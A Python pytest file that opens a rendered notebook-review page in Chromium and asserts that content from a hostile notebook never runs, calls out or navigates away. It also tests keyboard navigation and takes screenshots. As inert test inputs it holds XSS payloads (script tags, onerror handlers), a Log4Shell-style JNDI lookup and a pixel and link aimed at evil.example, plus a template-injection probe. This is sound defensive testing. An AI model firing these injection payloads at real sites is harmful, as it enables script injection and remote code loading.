"""The page of a review in the real Chromium: nothing a notebook holds runs, asks, or leads away.

Screenshots of it, light and dark, stay under `.cache/screenshots`, where CI takes them from.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any  # of playwright, whose types are not there when mypy runs

import pytest

from rasen.review.page import render_comparison, render_page
from rasen.review.reviewing import review_change
from stand.browser import Faults, open_page, running_browser
from stand.hostile_notebooks import ELSEWHERE, document, hostile_notebook
from stand.pipeline_folder import code_cell
from stand.repository import ROOT
from stand.reviewed import WordLinter, make_branches

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

SCREENSHOTS = ROOT / ".cache" / "screenshots"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with running_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def review(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the page of a review of two branches, hostile notebook included."""
    top = tmp_path_factory.mktemp("repository")
    make_branches(top)
    page = tmp_path_factory.mktemp("page") / "review.html"
    page.write_text(render_page(review_change(top, "main", "work", linter=WordLinter())))
    return page


def visit(page: Any, file: Path) -> None:
    """Open a file and look at all of it: what is lazy is loaded when it is seen."""
    page.goto(file.as_uri())
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    page.evaluate("for (const one of document.querySelectorAll('[loading]')) one.loading = 'eager'")
    page.wait_for_load_state("networkidle")


def harmless(page: Any, faults: Faults, file: Path) -> None:
    """Hold the page to what it promises."""
    assert page.url.partition("#")[0] == file.as_uri()
    asked = [url for url in faults.foreign if not url.startswith(("file://", "about:", "blob:"))]
    assert asked == []
    frames = page.frames
    assert all(frame.url in ("about:srcdoc", page.url) for frame in frames)
    assert [frame.evaluate("window.harmed") for frame in frames] == [None] * len(frames)
    assert not any(ELSEWHERE in url for url in faults.foreign)
    assert page.locator("main script, main form, main input, main base, main meta, main object").count() == 0
    assert page.evaluate("document.querySelectorAll('[onerror],[onload],[onclick],[ping]').length") == 0


def test_nothing_of_a_hostile_notebook_runs_or_leaves(browser: Any, tmp_path: Path) -> None:
    other = document([code_cell("x = 1", "code-0")])
    file = tmp_path / "comparison.html"
    hostile = hostile_notebook()
    for number, sides in enumerate([(None, hostile), (hostile, None), (other, hostile), (hostile, hostile)]):
        title = "<img src=x onerror=window.harmed=1>"
        file.write_text(render_comparison(*sides, title_old=title, title_new="{{7*7}}"))
        with open_page(browser, file.as_uri()) as (page, faults):
            visit(page, file)
            harmless(page, faults, file)
            assert "{{7*7}}" in page.inner_text("h1")
            if number == 0:
                frames = page.locator("iframe")
                assert frames.count() > 10
                every = frames.evaluate_all("list => list.map((one) => one.getAttribute('sandbox'))")
                assert set(every) == {""}
                assert "${jndi:ldap://evil.example/a}" in page.inner_text("main")
                assert "U+202E" in page.inner_text("main")
            assert faults.said == []


def test_the_policies_alone_would_hold(browser: Any, review: Path, tmp_path: Path) -> None:
    # The same page with what cleaning would have taken out: the second and third wall, without the first.
    payload = "<script>window.harmed=1</script><img src=https://evil.example/pixel onerror='window.harmed=1'>"
    link = "<a id=out href='https://evil.example/out'>out</a>"
    frame = f'<iframe sandbox="" srcdoc="{(payload + link).replace(chr(34), "&quot;")}"></iframe>'
    file = tmp_path / "pierced.html"
    file.write_text(review.read_text().replace("<main>", f"<main>{payload}{frame}", 1))
    with open_page(browser, file.as_uri()) as (page, faults):
        page.goto(file.as_uri())
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.harmed") is None
        page.frame_locator("iframe").first.locator("#out").click()
        page.wait_for_timeout(200)
        assert page.url == file.as_uri()
        assert faults.said  # the browser tells what it has refused, and only asked for what it was refused
        with pytest.raises(AssertionError):
            harmless(page, faults, file)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_reviewer_finds_the_way_by_keyboard(browser: Any, review: Path, scheme: str) -> None:
    options = {"viewport": {"width": 1280, "height": 1200}, "color_scheme": scheme}
    with open_page(browser, review.as_uri(), **options) as (page, faults):
        page.goto(review.as_uri())
        first = page.evaluate("document.querySelector('[data-change]').id")
        page.keyboard.press("j")
        assert page.evaluate("document.activeElement.id") == first
        seen = [first]
        for _ in range(5):
            page.keyboard.press("j")
            seen.append(page.evaluate("document.activeElement.id"))
        assert len(set(seen)) == len(seen)
        page.keyboard.press("k")
        assert page.evaluate("document.activeElement.id") == seen[-2]
        page.keyboard.press("n")
        assert page.evaluate("document.activeElement.dataset.file") == ""
        folded = page.locator("details.outputs")
        assert folded.count() > 0
        page.keyboard.press("o")
        assert page.locator("details.outputs:not([open])").count() == 0
        page.keyboard.press("o")
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.locator("h2", has_text="train.ipynb").evaluate("one => one.scrollIntoView()")
        tables = page.locator("details:has(h2:text('train.ipynb'))").frame_locator("iframe")
        for number in (0, 1):
            tables.nth(number).get_by_text("JFK").first.wait_for()
        page.wait_for_function("[...document.images].every((one) => one.complete || !one.offsetParent)")
        page.wait_for_timeout(200)  # for the frames to be painted, of which the page hears nothing
        page.screenshot(path=SCREENSHOTS / f"review-{scheme}.png")
        harmless(page, faults, review)
        assert faults.said == []
